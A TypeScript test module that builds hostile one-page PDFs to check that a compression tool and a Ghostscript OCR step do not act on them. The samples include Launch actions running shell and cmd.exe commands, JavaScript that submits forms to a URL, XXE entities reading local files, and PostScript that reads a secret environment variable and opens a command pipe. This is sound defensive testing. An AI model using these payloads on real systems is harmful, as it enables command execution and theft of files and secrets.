import { PDF } from '@creatorr/tool-kit/files/media-types';
import { type OnePage, onePage, type RawObject } from '@creatorr/tools/testing/builders/pdf';
import { type Family, type HostileCase, succeeds } from '../hostile-case.ts';
import { SECRET_VARIABLE, type World } from '../world.ts';

const onOpen = (action: string): OnePage => ({ catalog: `/OpenAction ${action}` });
const annotation = (entries: string, ...objects: RawObject[]): OnePage => ({
	page: `/Annots [<< /Type /Annot /Rect [10 10 90 90] ${entries} >>]`,
	objects,
});
const drawing = (dictionary: string, stream = ''): OnePage => ({
	resources: '/XObject << /X 5 0 R >>',
	content: 'q 100 0 0 100 0 0 cm /X Do Q',
	objects: [{ dictionary, stream }],
});

/** PDFs that want other files or addresses, by what asks for them. */
function requests({ files, url }: World): Record<string, OnePage> {
	const here = `(${files.text})`;
	const picture = `(${files.png})`;
	const web = `(${url('pdf')})`;
	const outside = (path: string) => `<< /Type /Filespec /F ${path} /UF ${path} >>`;
	const webFile = `<< /Type /Filespec /FS /URL /F ${web} >>`;
	const image =
		'/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8';
	const form = '/Type /XObject /Subtype /Form /BBox [0 0 300 300]';
	return {
		'a link to an address': annotation(`/Subtype /Link /A << /S /URI /URI ${web} >>`),
		'an address when it is opened': onOpen(`<< /S /URI /URI ${web} >>`),
		'another document when it is opened': onOpen(`<< /S /GoToR /F ${outside(here)} /D [0 /Fit] >>`),
		'another document on the network': onOpen(`<< /S /GoToR /F ${webFile} /D [0 /Fit] >>`),
		'an embedded document when it is opened': onOpen('<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>'),
		'a program when it is opened': onOpen(
			'<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c id) >> >>',
		),
		'a program of Windows’': onOpen('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) /O (open) >> >>'),
		'a script when it is opened': onOpen(
			`<< /S /JavaScript /JS (app.launchURL\\(${url('js')}\\); this.submitForm\\(${url('js')}\\)) >>`,
		),
		'a script of its name tree': {
			catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>',
		},
		'a form sent away': annotation(
			`/Subtype /Widget /FT /Tx /T (a) /A << /S /SubmitForm /F ${webFile} /Flags 4 >>`,
		),
		'data taken in': annotation(
			`/Subtype /Widget /FT /Tx /T (a) /A << /S /ImportData /F ${outside(here)} >>`,
		),
		'actions of its page': {
			page: `/AA << /O << /S /URI /URI ${web} >> /C << /S /Launch /F (/bin/sh) >> >>`,
		},
		'a film elsewhere': annotation(`/Subtype /Movie /Movie << /F ${webFile} >> /A true`),
		'a sound elsewhere': annotation(`/Subtype /Sound /Sound << /R 8000 /F ${outside(here)} >>`),
		'a file attached from elsewhere': annotation(`/Subtype /FileAttachment /FS ${outside(here)}`),
		'rich media elsewhere': annotation(
			`/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) ${webFile}] >> >>`,
		),
		'a screen with a rendition elsewhere': annotation(
			`/Subtype /Screen /A << /S /Rendition /R << /S /MR /C << /S /MCD /D ${webFile} >> >> >>`,
		),
		'a file of its own that lies elsewhere': {
			catalog: `/Names << /EmbeddedFiles << /Names [(a) ${outside(here)}] >> >> /AF [${outside(here)}]`,
		},
		'content that lies elsewhere': {
			page: '/Contents [4 0 R 5 0 R]',
			objects: [{ dictionary: `/F ${outside(here)} /FFilter /ASCIIHexDecode`, stream: '' }],
		},
		'an image that lies elsewhere': drawing(`${image} /F ${outside(picture)}`),
		'an image that lies on the network': drawing(`${image} /F ${webFile} /FFilter /DCTDecode`),
		'a replacement image of a press': drawing(
			`${image} /OPI << /2.0 << /Type /OPI /Version 2.0 /F ${outside(picture)} >> >>`,
			'x'.repeat(12_288),
		),
		'an alternate image elsewhere': drawing(
			`${image} /Alternates [<< /Image 6 0 R /DefaultForPrinting true >>]`,
			'x'.repeat(12_288),
		),
		'a page of another document': drawing(`${form} /Ref << /F ${outside(here)} /Page 0 >>`),
		'PostScript in its content': drawing(
			'/Type /XObject /Subtype /PS',
			`(${files.ps}) run (${files.text}) (r) file pop`,
		),
		'PostScript in a form': drawing(`${form} /Subtype2 /PS /PS 5 0 R`, `(${files.ps}) run`),
		'PostScript of a page': {
			page: '/PieceInfo << /PS << /Private 5 0 R >> >>',
			objects: [{ dictionary: '', stream: `(${SECRET_VARIABLE}) getenv == (%pipe%id) (w) file` }],
		},
		'a form’s data elsewhere (XFA)': {
			catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
			objects: [
				{
					dictionary: '',
					stream: `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${files.text}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a>&e;</a></xdp:xdp>`,
				},
			],
		},
		'metadata that name a file': {
			catalog: '/Metadata 5 0 R',
			objects: [
				{
					dictionary: '/Type /Metadata /Subtype /XML',
					stream: `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${files.text}">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`,
				},
			],
		},
		'a font that lies elsewhere': {
			resources:
				'/Font << /F1 << /Type /Font /Subtype /TrueType /BaseFont /Elsewhere /FontDescriptor << /Type /FontDescriptor /FontName /Elsewhere /Flags 32 /FontFile2 5 0 R >> >> >>',
			objects: [{ dictionary: `/F ${outside(here)}`, stream: '' }],
		},
	};
}

const TOOLS: readonly { tool: HostileCase['tool']; as: string; params?: Record<string, unknown> }[] = [
	{ tool: 'compress_heavy', as: 'compressed' },
	{
		tool: 'ocr',
		as: 'drawn anew by Ghostscript',
		params: { mode: 'force', deskew: false, rotate_pages: false },
	},
];

/** PDFs that act when somebody opens them: nobody does what they say. */
export const pdfActions: Family = {
	name: 'PDF actions',
	cases: (world) =>
		TOOLS.flatMap(({ tool, as, params }) =>
			Object.entries(requests(world)).map(
				([name, parts]): HostileCase => ({
					name: `${name}, ${as}`,
					...{ tool, fileName: 'a.pdf', mimeType: PDF, make: () => onePage(parts) },
					...(params && { params }),
					expected: succeeds(),
				}),
			),
		),
};
